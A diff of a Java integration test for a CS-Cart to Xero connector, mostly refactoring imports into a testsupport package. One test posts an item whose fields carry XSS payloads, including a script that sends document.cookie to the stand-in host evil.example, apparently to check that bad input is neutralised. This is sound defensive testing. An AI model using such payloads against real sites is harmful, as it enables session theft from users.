@@ -1,6 +1,8 @@
 package io.cscartxero.badinput;
 
-import static io.cscartxero.badinput.XeroApi.object;
+import io.cscartxero.testsupport.XeroUser;
+
+import static io.cscartxero.testsupport.XeroUser.object;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.math.BigDecimal;
@@ -8,7 +10,7 @@ import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 
-import io.cscartxero.it.ConnectorHarness;
+import io.cscartxero.testsupport.ConnectorHarness;
 
 import org.junit.jupiter.api.Test;
 
@@ -31,7 +33,7 @@ class ProductImportBadInputTest extends BadStoreRun<CustomerImportBadInputTest.S
     @Override
     CustomerImportBadInputTest.Sides prepare() {
         harness = ConnectorHarness.start();
-        var sides = new CustomerImportBadInputTest.Sides(new XeroApi(harness.sandbox), new StoreRows(harness.cscartJdbc()));
+        var sides = new CustomerImportBadInputTest.Sides(new XeroUser(harness.sandbox), new StoreRows(harness.cscartJdbc()));
         for (int i = 0; i < 3; i++) {
             good.add(sides.xero().item(item("XGOOD-" + i, "Good item " + i, new BigDecimal("9.9" + i))));
         }
@@ -202,7 +204,7 @@ class ProductImportBadInputTest extends BadStoreRun<CustomerImportBadInputTest.S
             assertThat(ConnectorHarness.jobs(app).run("productExportJob", Map.of()).exitCode()).isZero();
             String itemId = app.getBean(org.springframework.jdbc.core.JdbcTemplate.class).queryForObject(
                     "SELECT xero_id FROM sync_link WHERE entity = 'ITEM' AND cscart_id = ?", String.class, Long.toString(live));
-            new io.cscartxero.it.XeroUser(own.sandbox).post("/Items?unitdp=4", """
+            new io.cscartxero.testsupport.XeroUser(own.sandbox).post("/Items?unitdp=4", """
                     {"Items":[{"ItemID":"%s","Code":"LIVE-1","Name":"<img src=x onerror=alert(1)>",
                       "Description":"<script>document.location='https://evil.example/?'+document.cookie</script>",
                       "SalesDetails":{"UnitPrice":0.01}}]}""".formatted(itemId));
